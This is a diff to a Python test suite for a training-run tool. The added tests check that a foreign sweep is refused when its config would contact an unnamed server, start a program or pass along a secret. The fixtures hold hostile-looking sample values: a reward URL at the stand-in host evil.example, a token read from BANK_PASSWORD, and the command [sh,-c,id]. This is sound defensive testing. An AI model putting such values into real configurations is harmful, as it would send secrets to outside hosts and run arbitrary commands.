@@ -10,7 +10,10 @@ import tandem
 from tandem.compare import __main__ as compare
 from tandem.compare import selection
 from tandem.compare.selection import Candidate, Fresh, Selection
-from tandem.launch.select import exit_code, main, select
+from tandem.config import ConfigError, compose, trust
+from tandem.config.overrides import parse
+from tandem.config.resume import remember
+from tandem.launch.select import exit_code, list_confirming, main, select
 from tandem.record.reading import runs
 from tandem.sweep import status
 from tandem.sweep.best import list_shared
@@ -95,18 +98,25 @@ def test_the_winners_curse_stands_in_the_table():
     assert "Seed 5 is not counted, it is running: at/5" in said
 
 
+def fresh(overrides):
+    """The configuration with a seed that no run had."""
+    return compose([*overrides, "seed=5"])
+
+
 def test_only_prompts_that_nothing_has_read_are_reported_on(tmp_path):
-    said = count_unread(TINY, 5, [0, 1])  # of 6561 strings each seed draws twenty for eval and test
+    said = count_unread(
+        fresh(TINY), [0, 1]
+    )  # of 6561 strings each seed draws twenty for eval and test
     assert said is None or "are eval prompts of seeds used for the choice" in said
-    assert count_unread([*TINY, "data.seed=0"], 5, [0, 1]) is None
-    assert "the data has no others" in count_unread(["model=tiny_flow"], 5, [])
+    assert count_unread(fresh([*TINY, "data.seed=0"]), [0, 1]) is None
+    assert "the data has no others" in count_unread(fresh(["model=tiny_flow"]), [])
     rows = tmp_path / "rows.jsonl"
     rows.write_text("\n".join(json.dumps({"prompt": f"p{i}", "answer": "a"}) for i in range(40)))
     of_rows = ["algorithm=grpo", "data=jsonl", f"data.path={rows}"]
     with pytest.raises(ValueError, match="data=jsonl has no test prompts to report on: set data"):
-        count_unread(of_rows, 5, [])
+        count_unread(fresh(of_rows), [])
     with pytest.raises(ValueError, match="40 of 40 test prompts are also used in training or eval"):
-        count_unread([*of_rows, f"data.test_path={rows}"], 5, [])
+        count_unread(fresh([*of_rows, f"data.test_path={rows}"]), [])
 
 
 def test_fresh_runs_are_trained_asked_once_and_what_failed_is_done_again(tmp_path, capsys):
@@ -220,6 +230,71 @@ def test_a_choice_that_would_be_another_now_is_not_overwritten(tmp_path):
         ValueError, match="holds rloo, chosen by eval/accuracy, but the choice would now be grpo"
     ):
         select(place, None, 1, program=PROGRAM)
+
+
+@pytest.fixture
+def trusting_nothing(tmp_path, monkeypatch):
+    """A user who has started no run and named nothing yet."""
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "settings"))
+    monkeypatch.setenv("BANK_PASSWORD", "12345678")
+    for name in ("VARIABLES", "KEPT", "HOSTS", "STARTS", "COMMANDS"):
+        monkeypatch.setattr(trust, f"SAID_{name}", set())
+
+
+ASKING = ["reward=http", "reward.http.url=http://evil.example:80"]
+KEY = "reward.http.token_env=BANK_PASSWORD"
+PROGRAM_WORDS = ["environment=agent", "environment.world.command=[sh,-c,id]"]
+ENGINE = ["rollout=vllm_colocated", "model=qwen3_0_6b"]
+
+
+def start_of(words):
+    return f"warm_start=[{','.join(map(repr, ['algorithm=grpo', *words]))}]"
+
+
+@pytest.mark.usefixtures("trusting_nothing")
+@pytest.mark.parametrize(
+    ("words", "said"),
+    [
+        (ASKING, r"^reward\.http.*\.url: the run would connect to http://evil\.example, which you"),
+        (ENGINE, r"^rollout\.engine\.starts: the run would start a program, "),
+        ([start_of(ASKING)], r"^warm_start: reward\.http.*the run would connect to http://evil\."),
+        ([start_of([*ASKING, KEY])], r"^warm_start: reward.*BANK_PASSWORD: the variable would be"),
+        (
+            [start_of(PROGRAM_WORDS)],
+            r"^warm_start: environment.*: the run would start a program, sh",
+        ),
+    ],
+    ids=["server", "engine", "server of the start", "variable", "program"],
+)
+def test_a_foreign_sweep_starts_and_asks_nothing_that_the_user_has_not_named(tmp_path, words, said):
+    typed = [*TINY, "~recipe", *words] if "model" not in str(words) else [TINY[0], *words]
+    write_run(tmp_path / "sweep" / "a", [0.0, 0.9], seed=0, overrides=typed)
+    with pytest.raises(ConfigError, match=said):
+        select(tmp_path / "sweep", None, 1, program=PROGRAM)
+    assert {path.name for path in tmp_path.iterdir()} == {"sweep"}
+    assert trust.SAID_HOSTS == trust.SAID_COMMANDS == trust.SAID_VARIABLES == set()
+
+
+@pytest.mark.usefixtures("trusting_nothing")
+def test_a_sweep_of_ones_own_is_selected_and_a_foreign_one_once_its_server_is_named(
+    tmp_path, capsys
+):
+    typed = [*TINY, "~recipe", *ASKING, start_of(ASKING)]
+    for name in ("own", "foreign"):
+        write_run(tmp_path / name / "a", [0.0, 0.9], seed=0, overrides=typed)
+    mine = compose([*typed, "run_dir=x"])
+    remember(mine)  # as the run did that this user started
+    trust.SAID_HOSTS.clear()
+    assert select(tmp_path / "own", None, 1, program=PROGRAM).complete
+    trust.place().unlink()
+    with pytest.raises(SystemExit):
+        main([str(tmp_path / "foreign"), "seeds=1"])
+    assert "which you have not named" in capsys.readouterr().err
+    assert (
+        list_confirming([str(tmp_path / "foreign"), "seeds=1", "metrik=@", *ASKING]) == ASKING[1:]
+    )
+    trust.believe(parse(ASKING[1:]))
+    assert select(tmp_path / "foreign", None, 1, program=PROGRAM).complete
 
 
 @pytest.mark.parametrize(
